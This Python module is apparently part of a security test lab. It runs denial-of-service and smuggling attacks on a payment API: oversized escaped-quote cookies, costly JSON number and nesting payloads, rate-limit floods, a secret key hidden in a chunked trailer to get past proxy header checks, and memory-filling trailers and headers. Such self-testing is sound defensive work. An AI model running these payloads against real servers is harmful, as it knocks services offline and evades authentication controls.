"""What costs the server more than its sender: cookies, bodies, floods of them, heads and trailers without end."""

import time
from contextlib import suppress

from lab.attack.target import AttackResult, Target

COOKIE_ROUNDS = 2
COSTLY_COOKIE = 0.02  # seconds of processor time for one request; what is usual costs a tenth of it
COOKIES = ("payagg_console", "anything")


def attack_quotes_to_undo(target: Target) -> AttackResult:
    """Sends 60 KB of escaped quotes, as one cookie, to a page that reads cookies."""
    worst, status = 0.0, ""
    for name in COOKIES:
        head = f'GET /console HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nCookie: {name}="'
        before = target.cpu()
        for _ in range(COOKIE_ROUNDS):
            status = target.status_of(head.encode() + rb"\"" * 30_000 + b'"\r\n\r\n')
        worst = max(worst, (target.cpu() - before) / COOKIE_ROUNDS)
    happened = f"answered {status}, at most {worst * 1000:.0f} ms of processor time for each"
    return AttackResult("60 KB of escaped quotes in a cookie", happened, worst > COSTLY_COOKIE)


BODY_ROUNDS = 10
COSTLY_BODY = 0.05  # seconds of processor time for one request; what is usual costs a hundredth of it
FLOOD = 150
A_MINUTE = 60  # PAYAGG_REFUSED_BODY_LIMIT: so many at once, and as many again spread evenly over each minute
BODIES = {
    "1e308": b'{"gatewaySlug":"sandbox","amount":150000,"x":[' + b",".join([b"1e308"] * 10_500) + b"]}",
    "-1E-323": b'{"gatewaySlug":"sandbox","amount":150000,"x":[' + b",".join([b"-1E-323"] * 7_800) + b"]}",
    "lists": b'{"gatewaySlug":"sandbox","amount":150000,"x":[' + b",".join([b"[" * 29 + b"]" * 29] * 1_090) + b"]}",
    "digits": b'{"gatewaySlug":"sandbox","amount":150000,"x":[' + b",".join([b"9" * 4_000] * 15) + b"]}",
}


def attack_costly_json_without_a_credential(target: Target) -> AttackResult:
    """Sends numbers and lists that are dear to read to `process`."""
    return _costliest(target, f"/api/v1/public/payments/{target.a_payment()}/process", {}, "process")


def attack_costly_json_with_a_key(target: Target) -> AttackResult:
    """Sends the same to `initiate`, whose bodies may be larger."""
    return _costliest(target, "/api/v1/payments/initiate", target.as_key, "initiate")


def attack_flood_of_refused_bodies(target: Target) -> AttackResult:
    """Sends bodies that are no JSON again and again."""
    path, headers = f"/api/v1/public/payments/{target.a_payment()}/process", {"Content-Type": "application/json"}
    began = time.monotonic()
    statuses = [
        target.ask("POST", path, source="127.0.0.77", content=b"{", headers=headers).status_code for _ in range(FLOOD)
    ]
    refused = statuses.count(429)
    # No one answer tells: a token that came back during the flood may be taken by any of them, so by the last one too.
    room = A_MINUTE * (1 + (time.monotonic() - began) / 60) + 1
    succeeded = not refused or FLOOD - refused > room
    return AttackResult(f"{FLOOD} malformed bodies to process", f"{refused} answered 429", succeeded)


def _costliest(target: Target, path: str, credential: dict[str, str], name: str) -> AttackResult:
    worst, what = 0.0, ""
    headers = credential | {"Content-Type": "application/json"}
    for shape, body in BODIES.items():
        before = target.cpu()
        for _ in range(BODY_ROUNDS):
            target.ask("POST", path, content=body, headers=headers)
        spent = (target.cpu() - before) / BODY_ROUNDS
        if spent >= worst:
            worst, what = spent, shape
    happened = f"at most {worst * 1000:.0f} ms of processor time for each ({what})"
    return AttackResult(f"63 KB of {', '.join(BODIES)} to {name}", happened, worst > COSTLY_BODY)


HEAD = b"POST /api/v1/payments/initiate HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n"
CHUNKED = b'Transfer-Encoding: chunked\r\n\r\ne\r\n{"amount":500}\r\n0\r\n'
MOST = 4 * 1024 * 1024
GROWTH = 50 * 1024 * 1024


def attack_trailer_as_credential(target: Target) -> AttackResult:
    """Sends the secret key behind the body, where a proxy that checks headers does not see it."""
    status = target.status_of(HEAD + CHUNKED + b"Authorization: Bearer " + target.secret_key.encode() + b"\r\n\r\n")
    return AttackResult("a key in a trailer of initiate", f"answered {status}", status in ("200", "201"))


def attack_trailers_without_end(target: Target) -> AttackResult:
    """Fills memory with four megabytes of trailers."""
    before, sent, told = target.memory(), 0, b""
    with target.connect() as client, suppress(OSError):
        client.settimeout(5)
        client.sendall(HEAD + CHUNKED)
        while sent < MOST:
            sent += client.send(b"a:\r\n" * 4096)
        told = client.recv(12)
    grown = target.memory() - before
    status = told[9:].decode() or "nothing"
    happened = f"answered {status} after {sent // 1024} KiB, memory grew by {max(grown, 0) // 1024} KiB"
    # What is refused may still be taken and dropped, so that its sender gets to read why.
    return AttackResult(
        "4 MiB of trailers on a connection", happened, grown > GROWTH or (sent >= MOST and status not in ("400", "401"))
    )


def attack_head_in_one_read(target: Target) -> AttackResult:
    """Sends a head past its cap in one piece."""
    status = target.status_of(b"GET /healthz HTTP/1.1\r\nHost: shop.example\r\nX-Long: " + b"y" * 120_000 + b"\r\n\r\n")
    return AttackResult("a head of 120 KB", f"answered {status}", status == "200")


def attack_head_of_many_fields(target: Target) -> AttackResult:
    """Sends 16,000 fields of one letter, whose names and values are few bytes."""
    status = target.status_of(b"GET /healthz HTTP/1.1\r\nHost: shop.example\r\n" + b"a:\r\n" * 16_000 + b"\r\n")
    return AttackResult("a head of 16,000 fields", f"answered {status}", status == "200")
